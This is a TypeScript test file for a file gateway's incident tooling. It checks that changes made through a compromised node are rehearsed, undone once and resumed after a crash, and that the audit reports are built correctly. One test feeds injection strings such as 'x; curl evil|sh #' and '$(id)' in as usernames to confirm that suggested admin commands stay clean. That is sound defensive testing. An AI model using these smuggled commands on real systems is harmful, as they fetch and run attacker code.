import { afterEach, describe, expect, it, vi } from 'vitest';
import { buildAudit } from '#main-agent/audit/audit-log.ts';
import type { FileService } from '#main-agent/files/file-service.ts';
import { BinBook } from '#main-agent/files/storage/book/bin-book.ts';
import { BookedStorage } from '#main-agent/files/storage/book/booked-storage.ts';
import { buildIncidentAdmin } from '#main-agent/incident/incident.ts';
import { kindOf } from '#main-agent/incident/kinds.ts';
import { listedMax } from '#main-agent/incident/limits.ts';
import type { IncidentReport } from '#main-agent/incident/report.ts';
import type { AuditRecord } from '#main-agent/state/audit-record.ts';
import type { Change } from '#main-agent/state/state-store.ts';
import { buildMemoryState } from '#test/harness/memory-state.ts';
import { allVerbs, type Client, mountOf, type Rig, startRig, userOf } from '#test/main-agent/files/rig.ts';

const week = { keepMs: 7 * 24 * 3_600_000, isCounted: true, sftp: true };

async function start() {
  const state = buildMemoryState();
  /** After so many more undoings main is killed. */
  let undoingsLeft = Infinity;
  const audit = buildAudit({
    ...state,
    commit: async (changes) => {
      const isUndoing = changes.some((one) => one.kind === 'audit' && one.record.event === 'incident.undone');
      if (isUndoing && (undoingsLeft -= 1) < 0) throw new Error('killed');
      return state.commit(changes);
    },
  });
  const rig = await startRig({ audit });
  /** What is still on its way to the audit. */
  const late: Change[] = [];
  const files: Pick<FileService, 'takeBack' | 'settled'> = {
    takeBack: (node, isRehearsal) => rig.service.takeBack(node, isRehearsal),
    settled: async () => {
      await rig.service.settled();
      await state.commit(late.splice(0));
    },
  };
  const incidents = buildIncidentAdmin({
    nodes: { list: () => [], revoke: async () => 0 },
    nodeChanges: {
      list: async () => ({ changes: [], isCut: false }),
      revoke: async () => ({ changes: [], isCut: false }),
    },
    files,
    history: { state, file: '/nonexistent/audit.jsonl' },
    isUser: (name) => name === 'alice',
    audit,
    clock: rig.clock,
  });
  const report = (mode: IncidentReport['mode'], more: object = {}): Promise<IncidentReport> =>
    incidents.report(
      { node: 'dmz1', fromMs: 0, toMs: undefined, mode, ...more },
      { actor: 'eva', reason: 'a test' },
    );
  return {
    rig,
    state,
    audit,
    report,
    late,
    /** Of all that is somebody's: name and content. */
    tree: () => treeOf(rig),
    killAfter: (undoings: number): void => {
      undoingsLeft = undoings;
    },
    goodClient: (username = 'alice'): Client => {
      const client = rig.client(keeper(username));
      Object.assign(client.session, { node: 'dmz2' });
      return client;
    },
  };
}

async function treeOf(rig: Rig, ...names: readonly string[]): Promise<Readonly<Record<string, string>>> {
  const all: Record<string, string> = {};
  for (const name of await rig.medium.readdir(...names)) {
    if (name === '.sallyport-staging') continue;
    const path = [...names, name];
    const inner = await treeOf(rig, ...path).catch(() => undefined);
    Object.assign(all, inner ?? { [path.join('/')]: (await rig.medium.readFile(...path)).toString() });
  }
  return all;
}

function keeper(name = 'alice') {
  return userOf(name, [mountOf([], [name], allVerbs, { bin: week }), mountOf(['free'], ['free', name])]);
}

/** All that can be done to files, through the node. */
async function doEverything(rig: Rig): Promise<void> {
  const honest = rig.client(keeper());
  Object.assign(honest.session, { node: 'dmz2' });
  for (const name of ['plan', 'old', 'a', 'onto']) await honest.put([name], `${name} as it was`);
  await honest.put(['free', 'long'], 'a long one that a shorter one replaces');
  await honest.ask('fs.make-folder', { path: ['folder'] });
  await honest.put(['folder', 'inner'], 'inner as it was');
  const evil = rig.client(keeper());
  const rename = (from: string[], to: string[], overwrite = false) =>
    evil.ask('fs.rename', { from, to, overwrite });
  await evil.put(['new'], 'planted');
  await evil.put(['plan'], 'another');
  await evil.put(['plan'], 'yet another');
  await evil.put(['free', 'long'], 'short');
  await rename(['a'], ['b']);
  await rename(['b'], ['onto'], true);
  await evil.ask('fs.remove-file', { path: ['old'] });
  await evil.put(['old'], 'not the old one');
  await evil.ask('fs.make-folder', { path: ['made'] });
  await evil.ask('fs.copy', { from: ['new'], to: ['made', 'copy'], overwrite: false });
  await evil.ask('fs.remove-folder', { path: ['folder'], recursive: true });
  await evil.ask('fs.change', { path: ['new'], change: { mode: 0o640 }, followLinks: false });
}

const asItWas = {
  'alice/a': 'a as it was',
  'alice/folder/inner': 'inner as it was',
  'alice/old': 'old as it was',
  'alice/onto': 'onto as it was',
  'alice/plan': 'plan as it was',
  'free/alice/long': 'a long one that a shorter one replaces',
};

const states = ({ files }: IncidentReport): string[] =>
  files.map(({ what, path, to_path, undo }) => `${what} ${to_path ?? path}: ${undo.state}`);

describe('S-15: what was done to files through a node', () => {
  afterEach(() => vi.restoreAllMocks());

  it('is undone as the rehearsal said, newest first, and once', async () => {
    const { rig, report, tree } = await start();
    await doEverything(rig);
    const rehearsed = await report('rehearsed');
    expect(new Set(rehearsed.files.map(({ undo }) => undo.state))).toEqual(new Set(['would be', 'none']));
    const undone = await report('undone');
    expect(states(undone)).toEqual(states(rehearsed).map((one) => one.replace('would be', 'undone')));
    expect(undone.files.map(({ undo }) => undo.note)).toEqual(rehearsed.files.map(({ undo }) => undo.note));
    expect(await tree()).toEqual(asItWas);
    const again = await report('undone');
    expect(states(again)).toEqual(states(undone).map((one) => one.replace('undone', 'before')));
    expect(await tree()).toEqual(asItWas);
  });

  it('is undone to its end by another run, wherever the first was killed', async () => {
    const { rig, report } = await start();
    await doEverything(rig);
    const steps = (await report('rehearsed')).files.filter(({ undo }) => undo.state === 'would be').length;
    expect(steps).toBeGreaterThan(10);
    for (let killedAt = 0; killedAt < steps; killedAt += 1) {
      const one = await start();
      await doEverything(one.rig);
      one.killAfter(killedAt);
      await expect(one.report('undone')).rejects.toThrow('killed');
      one.killAfter(Infinity);
      await one.rig.restart();
      const second = await one.report('undone');
      expect(
        second.files.filter(({ undo }) => undo.state === 'left'),
        `killed at ${killedAt}`,
      ).toEqual([]);
      expect(await one.tree(), `killed at ${killedAt}`).toEqual(asItWas);
    }
  }, 60_000);

  it('is undone to its end where it was killed between putting one aside and putting the other back', async () => {
    for (const [whose, step] of [
      [BinBook.prototype, 'restore'],
      [BookedStorage.prototype, 'restoreVersion'],
    ] as const) {
      const one = await start();
      await doEverything(one.rig);
      vi.spyOn(whose as BinBook & BookedStorage, step).mockRejectedValue(new Error('killed'));
      const first = await one.report('undone');
      expect(first.files.some(({ undo }) => undo.state === 'left')).toBe(true);
      vi.restoreAllMocks();
      await one.rig.restart();
      await one.report('undone');
      expect(await one.tree()).toEqual(asItWas);
    }
  });

  it('stays where somebody else did something since, and why is said', async () => {
    const { rig, report, tree, goodClient } = await start();
    const evil = rig.client(keeper());
    for (const name of ['one', 'two', 'three', 'four', 'five']) await evil.put([name], 'planted');
    await evil.ask('fs.make-folder', { path: ['made'] });
    await evil.ask('fs.rename', { from: ['five'], to: ['six'], overwrite: false });
    const good = goodClient();
    await good.put(['one'], 'hers');
    await good.ask('fs.rename', { from: ['two'], to: ['moved'], overwrite: false });
    await good.put(['made', 'inner'], 'hers');
    await good.put(['five'], 'hers');
    await rig.medium.writeFile(['alice', 'three'], 'hers, by another way');
    await rig.medium.rm('alice', 'four');
    const before = await tree();
    for (const mode of ['rehearsed', 'undone'] as const) {
      const { files } = await report(mode);
      expect(
        files.map(
          ({ path, what, undo }) => `${what} ${path}: ${undo.state}: ${undo.note.replace(/ at .*/, '')}`,
        ),
      ).toEqual([
        'renamed /five: left: since then written by alice through dmz2',
        'folder made /made: left: since then written by alice through dmz2',
        'written /five: left: since then written by alice through dmz2',
        'written /four: nothing: it is not there any more',
        'written /three: left: it was changed since, and not through this node',
        'written /two: left: since then renamed by alice through dmz2',
        'written /one: left: since then written by alice through dmz2',
      ]);
      expect(await tree()).toEqual(before);
    }
  });

  it('stays where what it replaced, deleted or edited in place was not kept', async () => {
    const { rig, report, tree } = await start();
    const evil = rig.client(userOf('alice'));
    await rig.medium.mkdir('alice');
    for (const name of ['plan', 'old']) await rig.medium.writeFile(['alice', name], 'x');
    await evil.put(['plan'], 'a longer one');
    await evil.ask('fs.remove-file', { path: ['old'] });
    const { files } = await report('undone');
    expect(files.map(({ undo }) => undo.note)).toEqual([
      'it was not kept, or is not kept any more',
      'what it replaced was not kept; what it wrote is still there',
    ]);
    expect(await tree()).toEqual({ 'alice/plan': 'a longer one' });
  });

  it('drops the half of an upload that somebody could go on with', async () => {
    const { rig, report } = await start();
    const evil = rig.client(keeper());
    const handle = await evil.open(['half'], {
      read: false,
      write: true,
      create: 'if-missing',
      truncate: true,
      append: false,
    });
    await evil.write(handle, 'the first half');
    await evil.ask('fs.release', { handle, keepPartial: true });
    expect(await rig.staged()).toContainEqual(expect.stringMatching(/\.part$/));
    expect(states(await report('undone'))).toEqual(['written /half: undone']);
    expect(await rig.staged()).not.toContainEqual(expect.stringMatching(/\.part$/));
  });

  it('is looked at again when an admin had it back from the bin, and stays as theirs', async () => {
    const { rig, report, tree } = await start();
    const evil = rig.client(keeper());
    for (const name of ['one', 'two']) await evil.put([name], 'planted');
    await report('undone');
    expect(await tree()).toEqual({});
    const { bins } = rig.service;
    const { id = '' } = bins.list('node dmz1').find(({ path }) => path === '/alice/one') ?? {};
    await bins.restore('node dmz1', id, { actor: 'token:eva', reason: 'it is hers', keepBoth: false });
    for (const mode of ['rehearsed', 'undone'] as const) {
      const { files } = await report(mode);
      expect(
        files.map(({ path, undo: { state, note } }) => [path, state, note.replace(/ at .*/, '')]),
      ).toEqual([
        ['/two', 'before', 'an earlier run undid it'],
        ['/one', 'left', 'since then put back from the bin by token:eva'],
      ]);
      expect(await tree()).toEqual({ 'alice/one': 'planted' });
    }
  });

  it('leaves out what lies outside the window, and what another node or an admin did', async () => {
    const { rig, report, goodClient } = await start();
    const evil = rig.client(keeper());
    await evil.put(['early'], 'x');
    const fromMs = rig.clock.now() + 1;
    await vi.waitUntil(() => rig.clock.now() > fromMs);
    await evil.put(['within'], 'x');
    const toMs = rig.clock.now() + 1;
    await vi.waitUntil(() => rig.clock.now() > toMs);
    await evil.put(['late'], 'x');
    await goodClient().put(['good'], 'x');
    expect(states(await report('rehearsed', { fromMs, toMs }))).toEqual(['written /within: would be']);
  });

  it('is undone where the node did something to it again after the window', async () => {
    const { rig, report, tree } = await start();
    const evil = rig.client(keeper());
    await evil.put(['planted'], 'x');
    const toMs = rig.clock.now() + 1;
    await vi.waitUntil(() => rig.clock.now() > toMs);
    await evil.ask('fs.change', { path: ['planted'], change: { mode: 0o640 }, followLinks: false });
    expect(states(await report('undone', { toMs }))).toEqual(['written /planted: undone']);
    expect(await tree()).toEqual({});
  });
});

describe('a report of what came through a node', () => {
  const record = (event: string, more: Partial<AuditRecord> = {}): AuditRecord => ({
    time: new Date(1_000).toISOString(),
    event: event as AuditRecord['event'],
    outcome: 'ok',
    node: 'dmz1',
    ...more,
  });

  it('has what was on its way to the audit when it was asked for, whoever revoked the node before', async () => {
    const { late, report } = await start();
    for (const mode of ['rehearsed', 'listed', 'undone'] as const) {
      const detail = `of ${mode}`;
      late.push({ kind: 'audit', record: record('edge.limit', { detail }) });
      expect((await report(mode)).other[0]).toMatchObject({ detail });
    }
  });

  it('has no word of a stranger in a command that an admin pastes', async () => {
    const { state, report } = await start();
    const typed = ['x; curl evil|sh #', '$(id)', "'`id`", 'a\nid', '\u001b[2J', 'nobody', 'alice'];
    await state.commit(
      typed.map((user) => ({
        kind: 'audit' as const,
        record: record('login.refused', { outcome: 'refused', user }),
      })),
    );
    const { steps } = await report('listed');
    expect(steps.flatMap(({ commands = [] }) => commands).filter((one) => / passwd /.test(one))).toEqual([
      'sallyport users passwd alice',
    ]);
    expect(steps.flatMap(({ users = [] }) => users)).toEqual(['alice']);
    const elsewhere = await report('listed', { node: "dmz; id '" });
    expect(elsewhere.steps.flatMap(({ commands = [] }) => commands)).toContain(
      String.raw`sallyport nodes incident 'dmz; id '\''' --since 1970-01-01T00:00:00.000Z --undo`,
    );
  });

  it('tells an event that this version does not know', async () => {
    const { state, report } = await start();
    await state.commit([
      { kind: 'audit', record: record('share.made', { user: 'alice', detail: 'a link' }) },
    ]);
    const { other } = await report('rehearsed');
    expect(other).toMatchObject([{ event: 'share.made', user: 'alice', detail: 'a link' }]);
    expect(kindOf('constructor').listed).toBe('other');
  });

  it('says what of the window is not known', async () => {
    const { state, report } = await start();
    for (const [event, node] of [
      ['audit.summed', 'dmz1'],
      ['edge.gap', 'dmz1'],
      ['audit.summed', 'dmz2'],
      ['state.restored', undefined],
    ] as const) {
      const { node: _node, ...rest } = record(event, { detail: `told of ${node}` });
      await state.commit([{ kind: 'audit', record: { ...rest, ...(node !== undefined && { node }) } }]);
    }
    expect((await report('rehearsed')).known.gaps.map(({ why }) => why)).toEqual([
      'records of the node were counted and not written: told of dmz1',
      'events of the node never came: told of dmz1',
      'the state was put back from a copy: told of undefined',
    ]);
  });

  it('undoes what others pushed out of its list, deeds of the same millisecond among them', async () => {
    const { rig, state, report, tree } = await start();
    await rig.client(keeper()).put(['planted'], 'x');
    const time = new Date(rig.clock.now()).toISOString();
    const many = { time, user: 'bob', path: '/made', sessionKey: 's' };
    for (const event of ['file.mkdir', 'file.attributes'])
      for (let count = 0; count <= listedMax; count += 1_000)
        await state.commit(
          Array.from({ length: 1_000 }, () => ({ kind: 'audit' as const, record: record(event, many) })),
        );
    expect((await report('rehearsed')).counts).toMatchObject({ 'would be': 1 });
    const { files, counts, more, more_until: until, steps } = await report('undone');
    expect(files).toHaveLength(listedMax);
    expect(counts).toMatchObject({ undone: 1, left: 11_000 });
    expect({ more, until }).toEqual({ more: true, until: new Date(Date.parse(time) + 1).toISOString() });
    expect(steps.map(({ title }) => title)).toContain('Look at the 11000 files that were left');
    expect(await tree()).toEqual({});
  });

  it('keeps its users in the list however many names are made up, and the newest sessions', async () => {
    const { state, report } = await start();
    const commit = (all: readonly AuditRecord[]) =>
      state.commit(all.map((one) => ({ kind: 'audit' as const, record: one })));
    for (let from = 0; from <= listedMax; from += 1_000)
      await commit(
        Array.from({ length: 1_000 }, (_, index) => {
          const user = `nobody${from + index}`;
          return record('login.refused', { outcome: 'refused', user, sessionKey: user });
        }),
      );
    await commit([record('login.refused', { outcome: 'refused', user: 'alice', sessionKey: 'hers' })]);
    const { people, sessions, counts } = await report('rehearsed');
    expect(people).toMatchObject([{ user: 'alice', password_seen: true }]);
    expect(sessions).toHaveLength(listedMax);
    expect(sessions.at(-1)).toMatchObject({ session: 'hers', user: 'alice' });
    expect(counts).toMatchObject({ people: 1, strangers: 11_000, sessions: 11_001 });
  });

  it('has the newest of more than it lists, and says that there are more', async () => {
    const { state, report } = await start();
    for (let from = 0; from <= listedMax; from += 100)
      await state.commit(
        Array.from({ length: Math.min(100, listedMax + 1 - from) }, (_, index) => ({
          kind: 'audit' as const,
          record: record('file.download', { user: 'alice', path: `/${from + index}`, sessionKey: 's' }),
        })),
      );
    const { files, counts, more } = await report('listed');
    expect(files).toHaveLength(listedMax);
    expect(files[0]?.path).toBe(`/${listedMax}`);
    expect({ counted: counts['files'], more }).toEqual({ counted: listedMax + 1, more: true });
  });

  it('knows a new address and agent from one that its user had before the window', async () => {
    const { state, report } = await start();
    const admitted = (ms: number, clientIp: string, agent: string): AuditRecord =>
      record('login.admitted', {
        time: new Date(ms).toISOString(),
        user: 'alice',
        clientIp,
        agent,
        method: 'totp',
      });
    for (const one of [
      admitted(1_000, '192.0.2.1', 'old'),
      admitted(2_000, '192.0.2.1', 'new'),
      admitted(3_000, '192.0.2.2', 'old'),
    ])
      await state.commit([{ kind: 'audit', record: one }]);
    expect((await report('rehearsed', { fromMs: 1_500 })).people).toMatchObject([
      {
        signed_in: 2,
        addresses: [
          { value: '192.0.2.1', new: false },
          { value: '192.0.2.2', new: true },
        ],
        agents: [
          { value: 'new', new: true },
          { value: 'old', new: false },
        ],
      },
    ]);
  });
});
